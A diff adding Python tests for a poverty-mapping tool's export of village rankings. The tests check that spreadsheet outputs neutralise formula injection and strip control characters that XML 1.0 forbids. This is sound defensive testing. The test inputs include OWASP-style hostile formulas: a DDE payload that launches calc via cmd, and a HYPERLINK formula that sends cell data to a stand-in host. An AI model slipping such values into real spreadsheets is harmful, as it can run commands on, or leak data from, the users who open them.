@@ -325,3 +325,184 @@ def test_browser_shows_names_as_text_and_runs_nothing(browser, html_map):
                         ).count() == 0
     assert dialogs == [] and errors == []
     page.close()
+
+
+
+# --- kind 3: spreadsheet formulas ------------------------------------------------------------
+
+#: Names a spreadsheet would run (OWASP CSV Injection).
+FORMULAS = ("=1+2 Desa", "+SUM(A1:A9)", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
+            '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")')
+#: A tab or carriage return in front: the boundary reader trims them, a layer built in Python
+#: keeps them.
+FORMULAS_WS = ("\t=1+1", "\r=2+2")
+
+
+@pytest.fixture(scope="module")
+def formula_pockets(tmp_path_factory):
+    tmp = tmp_path_factory.mktemp("formula")
+    boundaries, counts, _ = lahat_with(FORMULAS, tmp, kecamatan="=KEC()+1")
+    paths = {}
+    for suffix in (".csv", ".xlsx"):
+        paths[suffix] = tmp / f"peringkat{suffix}"
+        cli("pockets", boundaries, counts, "-o", tmp / f"kantong{suffix}.geojson", "--ranking",
+            paths[suffix])
+    return paths, boundaries, counts
+
+
+def test_csv_ranking_prefixes_formula_text_and_keeps_numbers(formula_pockets):
+    paths, _, _ = formula_pockets
+    with open(paths[".csv"], encoding="utf-8", newline="") as f:
+        rows = list(csv.DictReader(f))
+    names = [r["nama_desa"] for r in rows]
+    for name in FORMULAS:
+        assert "'" + name in names and name not in names
+    assert "'=KEC()+1" in {r["nama_kecamatan"] for r in rows}
+    numeric = pd.read_csv(paths[".csv"]).select_dtypes("number").columns
+    texts = [v for r in rows for k, v in r.items() if k not in numeric]
+    assert not [t for t in texts if t and t[0] in "=+-@\t\r"]  # no text cell starts a formula
+    table = pd.read_csv(paths[".csv"])
+    assert pd.api.types.is_integer_dtype(table["prioritas"])
+    assert pd.api.types.is_float_dtype(table["persen_miskin_ekstrem"])
+    assert list(table["prioritas"]) == list(range(1, len(table) + 1))
+    negative = [c for c in numeric if (table[c] < 0).any()]
+    assert negative  # e.g. z-scores: negative numbers are written as numbers, no quote
+    assert not [r[c] for r in rows for c in negative if r[c].startswith("'")]
+
+
+def test_xlsx_ranking_stores_formula_text_as_text(formula_pockets):
+    import openpyxl
+
+    paths, _, _ = formula_pockets
+    sheet = openpyxl.load_workbook(paths[".xlsx"]).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
+    header = [c.value for c in next(sheet.iter_rows())]
+    by_name = {c.value: c for c in cells if c.column == header.index("nama_desa") + 1}
+    for name in FORMULAS:
+        assert by_name[name].data_type == "s" and by_name[name].quotePrefix
+    assert set(FORMULAS) <= set(pd.read_excel(paths[".xlsx"])["nama_desa"])
+    numbers = [c for c in cells if c.column == header.index("jumlah_miskin_ekstrem") + 1][1:]
+    assert numbers and all(c.data_type == "n" and isinstance(c.value, int) for c in numbers)
+
+
+def _pockets_of_layer(boundaries: Path, counts: Path, names: dict[int, str]):
+    """Pockets found on a layer whose desa names were set in Python (no reader in between)."""
+    from povmap.pipeline import Options, run
+    from povmap.pockets import find_pockets
+
+    layer = run(boundaries, counts, Options()).main.copy()
+    for position, name in names.items():
+        layer.iloc[position, layer.columns.get_loc("nama_desa")] = name
+    return find_pockets(layer, permutations=99)
+
+
+def test_tab_and_cr_names_are_neutralised_too(formula_pockets, tmp_path):
+    import openpyxl
+
+    from povmap.export.pockets import write_pockets
+
+    _, boundaries, counts = formula_pockets
+    result = _pockets_of_layer(boundaries, counts, dict(enumerate(FORMULAS_WS)))
+    write_pockets(result, tmp_path / "k.geojson", ranking=tmp_path / "r.csv")
+    write_pockets(result, tmp_path / "k.gpkg", ranking=tmp_path / "r.xlsx")
+    with open(tmp_path / "r.csv", encoding="utf-8", newline="") as f:
+        names = [r["nama_desa"] for r in csv.DictReader(f)]
+    for name in FORMULAS_WS:
+        assert "'" + name in names
+    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx").active
+    # XML reads a carriage return back as a line feed (XML 1.0 §2.11).
+    expected = {n.replace("\r", "\n") for n in FORMULAS_WS}
+    found = {c.value: c for row in sheet.iter_rows() for c in row if c.value in expected}
+    assert set(found) == expected
+    assert all(c.data_type == "s" and c.quotePrefix for c in found.values())
+
+
+def test_data_dictionary_neutralises_text_cells(tmp_path):
+    from povmap.export.kugi import write_dictionary
+
+    rows = [{"lapisan": "desa", "field": "=1+2", "tipe": "String", "satuan": "-",
+             "keterangan": "@cmd", "sumber": "Tabel jumlah (+x.csv)"}]
+    path = write_dictionary(tmp_path / "kamus.csv", rows)
+    with open(path, encoding="utf-8-sig", newline="") as f:
+        written = list(csv.DictReader(f))
+    assert written == [{"lapisan": "desa", "field": "'=1+2", "tipe": "String", "satuan": "-",
+                        "keterangan": "'@cmd", "sumber": "Tabel jumlah (+x.csv)"}]
+
+
+# --- kind 4: characters XML 1.0 forbids ------------------------------------------------------
+
+#: Names with control characters as a layer built in Python can hold them (the boundary reader
+#: turns \x0b into a space and refuses the others as a sign of a wrong encoding).
+CONTROL_NAMES = ("Desa\x0bBaru", "Desa\x01Lama", "Desa\x1fNol\x0cSatu")
+CLEANED = ("Desa Baru", "DesaLama", "Desa Nol Satu")
+
+
+def _parse_every_xml(folder: Path) -> dict[str, ET.Element]:
+    """Parse every XML file of a bundle folder and of its shapefile zips (raises if one fails)."""
+    import zipfile
+
+    parsed = {p.name: ET.parse(p).getroot()
+              for p in sorted(folder.iterdir()) if p.suffix in (".xml", ".sld", ".qml")}
+    for archive in folder.glob("*.zip"):
+        with zipfile.ZipFile(archive) as z:
+            for name in z.namelist():
+                if name.endswith((".xml", ".sld", ".qml")):
+                    parsed[f"{archive.name}/{name}"] = ET.fromstring(z.read(name))
+    return parsed
+
+
+def test_xml_outputs_parse_with_control_characters_in_options_and_metadata(tmp_path):
+    boundaries, counts, _ = lahat_with((), tmp_path, kabupaten="Lahat\x0bKab")
+    meta = tmp_path / "meta.toml"
+    meta.write_text('organisasi = "Dinas\\u000bSosial"\njudul = "Judul\\u0001"\n'
+                    'kata_kunci = ["a\\u0002b"]\nlisensi = "CC\\u001fBY"\n', encoding="utf-8")
+    out = tmp_path / "bundel"
+    cli("export", boundaries, counts, "-o", out, "--format", "geojson,gpkg,shp", "--metadata",
+        meta, "--title", "Peta\x0bKemiskinan", "--vintage", "P3KE\x032024")
+    parsed = _parse_every_xml(out)
+    assert {"desa.xml", "kecamatan.xml", "desa.sld", "desa.qml", "desa_shp.zip/desa.xml",
+            "desa_shp.zip/desa.sld"} <= set(parsed)
+    texts = [e.text for e in parsed["desa.xml"].iter(f"{GCO}CharacterString")]
+    assert "Dinas Sosial" in texts and "Judul" in texts and "ab" in texts
+    assert "CC BY" in texts and "P3KE2024" in texts
+    assert "Lahat Kab" in texts  # the place keyword
+    title = parsed["desa.sld"].find(f".//{SLD}UserStyle/{SLD}Title").text
+    assert title == "Peta Kemiskinan (desa/kelurahan)"
+
+
+def test_xml_outputs_parse_with_control_characters_in_names(formula_pockets, tmp_path):
+    from povmap.export import export
+    from povmap.pipeline import Options, run
+
+    _, boundaries, counts = formula_pockets
+    result = run(boundaries, counts, Options())
+    desa, kecamatan = result.main.copy(), result.layers["kecamatan"].copy()
+    for position, name in enumerate(CONTROL_NAMES):
+        desa.iloc[position, desa.columns.get_loc("nama_desa")] = name
+    desa["nama_kabupaten"] = "Lahat\x08\x0bKab"
+    kecamatan["nama_kabupaten"] = "Lahat\x08\x0bKab"
+    kecamatan.iloc[0, kecamatan.columns.get_loc("nama_kecamatan")] = "Kec\x07Satu"
+    out = tmp_path / "bundel"
+    export({"desa": desa, "kecamatan": kecamatan}, out, formats=("geojson", "shp"),
+           title="Judul\x0c2024")
+    parsed = _parse_every_xml(out)
+    assert {"desa.xml", "desa.sld", "desa.qml", "kecamatan.xml"} <= set(parsed)
+    texts = [e.text for e in parsed["desa.xml"].iter(f"{GCO}CharacterString")]
+    assert "Lahat Kab" in texts and "Judul 2024 (desa/kelurahan)" in texts
+    data = json.loads((out / "desa.geojson").read_text(encoding="utf-8"))
+    assert set(CONTROL_NAMES) <= {f["properties"]["NAMOBJ"] for f in data["features"]}
+
+
+def test_xlsx_ranking_with_control_characters(formula_pockets, tmp_path):
+    import openpyxl
+
+    from povmap.export.pockets import write_pockets
+
+    _, boundaries, counts = formula_pockets
+    result = _pockets_of_layer(boundaries, counts, dict(enumerate(CONTROL_NAMES)))
+    ranking = tmp_path / "peringkat.xlsx"
+    write_pockets(result, tmp_path / "k.gpkg", ranking=ranking)
+    names = {c.value for row in openpyxl.load_workbook(ranking).active.iter_rows()
+             for c in row if isinstance(c.value, str)}
+    assert set(CLEANED) <= names
